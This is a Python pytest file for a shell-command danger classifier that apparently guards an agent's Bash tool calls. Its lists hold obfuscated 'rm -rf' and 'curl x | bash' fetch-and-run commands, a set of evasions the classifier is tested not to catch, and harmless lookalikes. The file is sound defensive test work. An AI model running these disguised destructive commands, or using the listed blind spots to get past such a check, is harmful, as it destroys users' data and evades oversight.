"""Dangerous commands in disguise, the disguises that stay unseen, and texts that only look dangerous."""

from __future__ import annotations

import pytest

from coherence.policy.danger.classify import classify

DISGUISED = r"""
r\m -rf y
'r'm -rf y
$(echo rm) -rf y
`echo rm` y
a=r b=m; $a$b y
a=(rm -rf); ${a[@]} y
{rm,-rf,y}
/bin/r? -rf y
alias x='rm -rf'; x y
f() { "$@"; }; f rm -rf y
bash -c '"$@"' _ rm -rf y
bash -c 'eval "$1"' _ 'rm y'
eval "r""m y"
printf 'rm y' | tee x | bash
(echo rm y) | bash
. <(echo rm y)
source /dev/stdin <<< 'rm y'
echo 'rm y' | at now
env -S 'rm -rf y'
su -c 'rm y' joe
! { rm y; }
>x rm y
/usr/bin/env rm y
echo ${X:-$(rm y)}
tmux send-keys -t 0 'rm -rf y' Enter
perl -e 'system "rm -rf y"'
awk 'BEGIN{system("rm y")}'
curl -s x | tee y | bash
sh <<< "$(curl x)"
python3 <(curl x)
curl -sX DELETE https://x
rm -rf don't
if then fi rm -rf y
""".strip().splitlines()

UNSEEN = r"""
$(printf 'r')m y
X=mr; ${X:1:1}${X:0:1} y
printf 'rm -rf y' > x.sh && bash x.sh
python -c "getattr(__import__('os'),'rem'+'ove')('y')"
git -c alias.x='!rm -rf y' x
psql -f drop.sql
""".strip().splitlines()

ONLY_LOOKS = [
    "git commit -m \"$(cat <<'EOF'\nFix: don't rm -rf `x`; kill it (see #1)\n\n- a | b\nEOF\n)\"",
    "cat > a.py <<'EOF'\nimport os\nos.remove(\"x\")\nEOF\npython -m pytest",
    "python - <<'EOF'\nprint('rm') # don't\nEOF",
    "sed -n '/rm -rf/p' x | awk '{print $2}'",
    "git checkout main --",
    "git stash list | grep drop",
    "docker build -t rm .",
    "$EDITOR rm.txt",
    "cat x | sh",
    "case $x in rm) echo;; esac",
    "mysql -e \"INSERT INTO t VALUES ('DROP TABLE x')\"",
    "node -e 'm.delete(1)'",
    "echo hi > /tmp/x/etc/y",
]


@pytest.mark.parametrize("command", DISGUISED)
def test_disguises_disguised(command: str) -> None:
    assert classify("Bash", {"command": command}) is not None


@pytest.mark.parametrize("command", UNSEEN)
def test_disguises_what_only_running_it_would_tell_stays_unseen(command: str) -> None:
    assert classify("Bash", {"command": command}) is None


@pytest.mark.parametrize("command", ONLY_LOOKS)
def test_disguises_only_looks_dangerous(command: str) -> None:
    assert classify("Bash", {"command": command}) is None
